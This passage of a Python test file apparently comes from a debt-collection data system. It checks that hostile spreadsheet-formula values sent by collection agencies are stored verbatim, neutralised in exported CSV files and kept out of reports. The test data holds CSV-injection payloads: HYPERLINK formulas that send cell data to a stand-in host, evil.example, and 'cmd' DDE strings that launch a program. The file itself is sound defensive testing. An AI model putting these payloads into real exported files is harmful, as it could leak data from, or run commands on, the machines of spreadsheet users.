        render_payments([PaymentNoticeRow("D202611-000001", 2, NOV, D("5"), NOV, "REVERSAL", 1)])
    with pytest.raises(PublicationError, match="is negative"):
        amount_cell(D("-5"))


# ------------------------------------------------------- agency-supplied text through to the fund's files
def _ingest_world() -> Any:
    """tests/unit/ingest/test_load.py's warehouse: debtors 1 and 3 with AG01 (D1, D3), 2 with AG02."""
    spec = importlib.util.spec_from_file_location(
        "ingest_load_world", Path(__file__).parent / "ingest" / "test_load.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


HOSTILE_LINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
HOSTILE_CONTACTS = [  # (dossier, update_id, field, value as the agency sent it)
    ("D202611-000001", "C1", "ADDRESS", HOSTILE_LINK),
    ("D202611-000001", "C2", "CITY", "+cmd|' /C calc'!A0"),
    ("D202611-000001", "C3", "LEGAL_REP", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("D202611-000001", "C4", "EMAIL", "=cmd|'/Ccalc'!A0@evil.ma"),  # a lawful address, and a formula
    ("D202611-000001", "C5", "PHONE", "+212 6 12 34 56 78"),  # a phone: E.164, never prefixed
    ("D202611-000003", "C6", "ADDRESS", "\t-2+3"),
    ("D202611-000003", "C7", "CITY", "\r@SUM(A1:A9)"),
    ("D202611-000003", "C8", "LEGAL_REP", "-2+3"),
    ("D202611-000003", '=HYPERLINK("http://evil.example/id")', "PHONE", "=1+2"),  # E012: rejected
]


def _assert_no_cell_runs(path: Path) -> list[dict[str, str]]:
    """Every cell of a CSV the fund wrote: none a spreadsheet would run, an E.164 phone aside.
    Returns the data rows as {column: cell}."""
    rows = [r.cells for r in parse_rows(path.read_text(encoding="utf-8"), file=path.name) if not r.blank]
    for cells in rows[1:]:
        for column, cell in zip(rows[0], cells, strict=True):
            phone = column.startswith("phone") and re.fullmatch(r"\+[0-9]{8,15}", cell)
            signed = column in {"amount", "total_due", "commission_this_month"} and re.fullmatch(
                r"-[0-9]+\.[0-9]{2}", cell)
            assert not begins_formula(cell) or phone or signed, (path.name, column, cell)
    return [dict(zip(rows[0], cells, strict=True)) for cells in rows[1:]]


def test_agency_contact_values_are_stored_verbatim_and_every_file_the_fund_writes_guards_them(
    tmp_path: Path,
) -> None:
    from recouvra.ingest import ingest_file
    from recouvra.kpi import load_kpis
    from recouvra.report import render_report

    world = _ingest_world()
    processed = dt.datetime(2026, 11, 25, 10, 0, tzinfo=dt.UTC)
    with connect(f"duckdb:///{(tmp_path / 'wh.duckdb').as_posix()}") as wh:
        migrate_connection(wh)
        world.seed(wh)
        contacts = world.write(tmp_path / "spool", "AG01_CONTACTS_20261125_01.csv", "CONTACTS", [
            [d, u, f, v, "2026-11-10", "agency visit"] for d, u, f, v in HOSTILE_CONTACTS])
        result = ingest_file(wh, contacts, "AG01", world.AS_OF, world.T0, now=processed)

        # Stored verbatim: the cell as sent, and the golden record without any quote added.
        assert (result["status"], result["rows_accepted"], result["rows_rejected"]) == ("PARTIAL", 8, 1)
        sent = {u: v for _, u, _, v in HOSTILE_CONTACTS[:-1]}
        assert dict(wh.query("SELECT update_id, value FROM core.agency_contact_update")) == sent
        assert wh.query("SELECT raw_line FROM core.return_reject") == [
            ('D202611-000003;"=HYPERLINK(""http://evil.example/id"")";PHONE;=1+2;2026-11-10;agency visit',)]
        golden = {d: r for d, *r in wh.query(
            "SELECT debtor_id, address, city, legal_rep_name, email, phone_1, phone_2 FROM core.dim_debtor "
            "WHERE debtor_id IN (1, 3) ORDER BY 1")}
        assert golden == {
            1: [HOSTILE_LINK, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                "=cmd|'/ccalc'!a0@evil.ma", "+212612345678", "+212522123456"],
            3: ["-2+3", "@SUM(A1:A9)", "-2+3", "contact@atlas.ma", None, None],  # blanks squeezed
        }

        # The acknowledgement: the agency's own id and the fund's detail, guarded.
        rejects = Path(result["rejects_path"])
        assert _assert_no_cell_runs(rejects) == [{
            "line_no": "10", "record_id": "'=HYPERLINK(\"http://evil.example/id\")", "reason_code": "E012",
            "detail": "value '=1+2' is not a valid Moroccan phone number"}]

        # The next month's assignment carries the debtors as the agency updated them, guarded.
        dec = dt.date(2026, 12, 1)
        for seq, debtor in ((1, 1), (2, 3)):
            dossier = f"D202612-00000{seq}"
            wh.execute("INSERT INTO core.dossier_period VALUES (?, DATE '2026-06-01', 'PRINCIPAL', 700, "
                       "NULL)", [dossier])
            wh.execute(
                "INSERT INTO core.dossier (dossier_id, assignment_month, debtor_id, affiliation_no, "
                "agency_code, segment, assignment_start, assignment_end, commission_rate, commission_cap, "
                "periods_count, oldest_period, newest_period, principal_due, surcharges_due, penalties_due, "
                "total_due, status, status_date, created_at) VALUES (?, ?, ?, ?, 'AG01', 'FRESH', ?, "
                "DATE '2027-05-31', 0.03, 30000, 1, DATE '2026-06-01', DATE '2026-06-01', 700, 0, 0, 700, "
                "'ALLOCATED', ?, TIMESTAMP '2026-12-01 05:00:00')",
                [dossier, dec, debtor, f"100000{debtor}", dec, dec])
        (package,) = build_packages(wh, dec, tmp_path / "out", now=T1)
        assign = _assert_no_cell_runs(Path(package.files[0].path))
        _assert_no_cell_runs(Path(package.files[1].path))
        shown = {r["dossier_id"]: [r[c] for c in ("address", "city", "legal_rep_name", "email", "phone_1",
                                                   "phone_2")] for r in assign}
        assert shown == {
            "D202612-000001": ["'" + HOSTILE_LINK, "'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0",
                               "",  # an e-mail is never prefixed: one that would run is left out
                               "+212612345678", "+212522123456"],
            "D202612-000002": ["'-2+3", "'@SUM(A1:A9)", "'-2+3", "contact@atlas.ma", "", ""],
        }
        # what an agency reads back without the guard is what the warehouse holds
        assert [unguard(c) for c in shown["D202612-000001"][:3]] == golden[1][:3]

        # The monthly report: no agency text reaches it; its figures count the updates.
        load_kpis(wh, NOV)
        html = render_report(wh, NOV, tmp_path / "reports").read_text(encoding="utf-8")
        for payload in ("HYPERLINK", "evil", "cmd|", "SUM(", "-2+3"):
            assert payload not in html
        (rate,) = wh.query("SELECT data_update_rate FROM marts.v_agency_league "
                           "WHERE agency_code = 'AG01' AND as_of_month = ?", [NOV])[0]
        assert rate == 1 and "<td>100.0 %</td></tr>" in html  # both AG01 dossiers updated
